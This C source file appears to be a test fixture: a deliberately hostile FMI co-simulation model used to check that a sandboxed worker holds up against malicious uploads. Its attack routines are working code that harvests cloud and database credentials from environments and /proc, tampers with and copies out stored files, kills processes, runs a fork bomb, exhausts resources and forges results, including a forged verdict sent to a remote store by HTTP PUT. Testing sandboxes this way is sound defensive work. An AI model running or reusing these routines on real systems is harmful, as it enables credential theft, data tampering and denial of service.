/*
 * hostile: one FMI 2.0 Co-Simulation model, many attacks. Compiled once per attack with -DATTACK=<n>
 * (tests/hostile_fmus.py); at its first fmi2DoStep it does what a hostile upload would do to the worker that
 * runs it. TARGET (a folder: the store, DAGSTER_HOME, the landing zone) is compiled in by the tests, as an
 * attacker would guess it. Written for the tests only: nothing here is meant to be run outside the sandbox.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fmu_common.h"

#ifndef TARGET
#define TARGET "/nonexistent"
#endif

enum {
    ENV_SECRETS = 1,  /* read credentials from the environment and log them */
    TAMPER = 2,       /* rewrite every output.json under TARGET, drop files into TARGET, copy uploads out */
    KILL_PARENT = 3,  /* SIGKILL the parent, every process it can see, and its session */
    ORPHAN = 4,       /* leave a daemon holding stdout/stderr open, then finish at once */
    MEMORY = 5,       /* allocate and touch memory until malloc fails, then crash */
    HUGE_STDERR = 6,  /* one 10 MB stderr line, then crash */
    FORK_BOMB = 7,    /* fork until fork fails, then abort */
    CPU_BURN = 8,     /* spin the CPU forever */
    FILE_SIZE = 9,    /* write one ever-growing file */
    FORGE = 10,       /* leave a forged child.json and a result.npy symlinked to another file, exit 0 */
    HUGE_LOG = 11,    /* 20,000 log lines of 20 KB through the FMI logger */
    STORE = 12,       /* hunt for store credentials, then PUT a forged verdict to TARGET ("ip:port/path") */
    SYSV_IPC = 13,    /* leave System V IPC objects under a fixed key; say whether a previous model left them */
};

enum { VR_Y };

static const FmuRealVariable reals[] = {
    [VR_Y] = {"y", FMU_OUTPUT, 0.0},
};

static int done = 0;

static void tamper(const char *dir, int depth) {
    DIR *d = opendir(dir);
    if (d == NULL || depth > 8) {
        if (d) closedir(d);
        return;
    }
    struct dirent *e;
    char path[4096];
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) {
            tamper(path, depth + 1);
        } else if (strcmp(e->d_name, "output.json") == 0) {
            FILE *f = fopen(path, "w");
            if (f) { fputs("{\"status\": \"success\", \"forged\": true}", f); fclose(f); }
        } else {
            char copy[4200];
            snprintf(copy, sizeof copy, "stolen-%s", e->d_name); /* into the FMU's own folder */
            FILE *in = fopen(path, "rb"), *out = fopen(copy, "wb");
            if (in && out) { int c; while ((c = fgetc(in)) != EOF) fputc(c, out); }
            if (in) fclose(in);
            if (out) fclose(out);
        }
    }
    closedir(d);
    snprintf(path, sizeof path, "%s/pwned-by-hostile-fmu", dir);
    FILE *f = fopen(path, "w");
    if (f) { fputs("pwned", f); fclose(f); }
}

/* Credentials a worker might hold: in our environment, or in any process environment we can read. */
static void hunt_credentials(FmuInstance *inst) {
    const char *names[] = {"AWS_SECRET_ACCESS_KEY=", "AWS_ACCESS_KEY_ID=", "AWS_ENDPOINT_URL=",
                           "STORAGE_EMULATOR_HOST=", "GOOGLE_APPLICATION_CREDENTIALS=",
                           "VALIDIBOT_GCS_SIGNING_KEY_FILE="};
    size_t n = sizeof names / sizeof names[0];
    extern char **environ;
    for (char **e = environ; *e; e++)
        for (size_t i = 0; i < n; i++)
            if (strncmp(*e, names[i], strlen(names[i])) == 0)
                fmu_log(inst, fmi2Warning, "logStatusWarning", "found %s in own environment", names[i]);
    DIR *proc = opendir("/proc");
    struct dirent *d;
    while (proc && (d = readdir(proc)) != NULL) {
        if (d->d_name[0] < '0' || d->d_name[0] > '9') continue;
        char path[300], buf[65536];
        snprintf(path, sizeof path, "/proc/%s/environ", d->d_name);
        FILE *f = fopen(path, "rb");
        if (!f) continue;
        size_t len = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        for (size_t at = 0; at < len; at += strlen(buf + at) + 1) {
            buf[len] = '\0';
            for (size_t i = 0; i < n; i++)
                if (strncmp(buf + at, names[i], strlen(names[i])) == 0)
                    fmu_log(inst, fmi2Warning, "logStatusWarning", "found %s in %s", names[i], path);
        }
    }
    if (proc) closedir(proc);
}

/* PUT a forged verdict to TARGET = "a.b.c.d:port/path", unsigned: what a model without credentials can try. */
static void forge_remote(FmuInstance *inst) {
    char host[64] = {0}, path[1024] = {0};
    int port = 0;
    if (sscanf(TARGET, "%63[^:]:%d%1023s", host, &port, path) != 3) {
        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: bad TARGET %s", TARGET);
        return;
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, host, &addr.sin_addr);
    if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: cannot connect (%s)", strerror(errno));
        if (s >= 0) close(s);
        return;
    }
    const char *body = "{\"status\": \"success\", \"forged\": true}";
    char request[2048], reply[256] = {0};
    int len = snprintf(request, sizeof request, "PUT %s HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %zu\r\n"
                       "Connection: close\r\n\r\n%s", path, host, port, strlen(body), body);
    if (write(s, request, (size_t)len) == len && read(s, reply, sizeof reply - 1) > 0) {
        char *eol = strstr(reply, "\r\n");
        if (eol) *eol = '\0';
        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: the store answered %s", reply);
    }
    close(s);
}

static fmi2Status attack(FmuInstance *inst) {
    switch (ATTACK) {
    case ENV_SECRETS: {
        const char *names[] = {"AWS_SECRET_ACCESS_KEY", "MODAL_TOKEN_SECRET", "DAGSTER_PG_PASSWORD",
                               "GOOGLE_APPLICATION_CREDENTIALS", "DAGSTER_HOME"};
        for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
            const char *v = getenv(names[i]);
            fmu_log(inst, fmi2Warning, "logStatusWarning", "leak %s=%s", names[i], v ? v : "(unset)");
        }
        return fmi2OK;
    }
    case TAMPER:
        tamper(TARGET, 0);
        return fmi2OK;
    case KILL_PARENT:
        kill(getppid(), SIGKILL);
        kill(0, SIGKILL);   /* own process group: would include the worker without a new session */
        kill(-1, SIGKILL);  /* every process this user may signal */
        return fmi2OK;
    case ORPHAN: {
        pid_t pid = fork();
        if (pid == 0) {
            setsid();
            execl("/bin/sleep", "sleep", "313.25", (char *)NULL);
            _exit(0);
        }
        return fmi2OK;
    }
    case MEMORY:
        for (;;) {
            char *p = malloc(1 << 20);
            if (p == NULL) abort();
            memset(p, 1, 1 << 20);
        }
    case HUGE_STDERR: {
        size_t n = 10u << 20;
        char *line = malloc(n + 1);
        if (line == NULL) abort();
        memset(line, 'E', n);
        line[n] = '\0';
        fputs(line, stderr);
        fputc('\n', stderr);
        fflush(stderr);
        abort();
    }
    case FORK_BOMB:
        for (;;) {
            pid_t pid = fork();
            if (pid == 0) { pause(); _exit(0); }
            if (pid < 0) { perror("fork failed"); abort(); }
        }
    case CPU_BURN: {
        volatile unsigned long x = 0;
        for (;;) x++;
    }
    case FILE_SIZE: {
        FILE *f = fopen("grow.bin", "wb");
        static char chunk[1 << 20];
        memset(chunk, 7, sizeof chunk);
        for (;;) {
            if (f == NULL || fwrite(chunk, 1, sizeof chunk, f) != sizeof chunk || fflush(f) != 0) {
                perror("write grow.bin");
                return fmi2Error;
            }
        }
    }
    case FORGE: {
        FILE *f = fopen("child.json", "w");
        if (f) { fputs("{\"ok\": true, \"simulation_time_reached\": 1.0, \"fmu_log\": []}", f); fclose(f); }
        unlink("result.npy");
        if (symlink(TARGET, "result.npy") != 0) perror("symlink");
        _exit(0);
    }
    case STORE:
        hunt_credentials(inst);
        forge_remote(inst);
        return fmi2OK;
    case SYSV_IPC: {
        key_t key = 0x56424f54;
        int found = shmget(key, 0, 0) >= 0 || msgget(key, 0) >= 0 || semget(key, 0, 0) >= 0;
        int made = shmget(key, 4096, IPC_CREAT | 0600) >= 0 && msgget(key, IPC_CREAT | 0600) >= 0 &&
                   semget(key, 1, IPC_CREAT | 0600) >= 0;
        fmu_log(inst, fmi2Warning, "logStatusWarning", "sysv ipc: %s; %s",
                found ? "FOUND a previous model's objects" : "nothing of a previous model",
                made ? "left a segment, a queue and a semaphore set" : "could not make them");
        return fmi2OK;
    }
    case HUGE_LOG: {
        static char big[20000];
        memset(big, 'L', sizeof big - 1);
        for (int i = 0; i < 20000; i++) fmu_log(inst, fmi2Warning, "logStatusWarning", "%s", big);
        return fmi2OK;
    }
    }
    return fmi2OK;
}

static fmi2Status do_step(FmuInstance *inst, fmi2Real t, fmi2Real h) {
    if (!done) {
        done = 1;
        fmi2Status status = attack(inst);
        if (status != fmi2OK) return status;
    }
    inst->reals[VR_Y] = t + h;
    return fmi2OK;
}

const FmuModel fmu_model = {
    .reals = reals,
    .n_reals = sizeof reals / sizeof reals[0],
    .do_step = do_step,
};
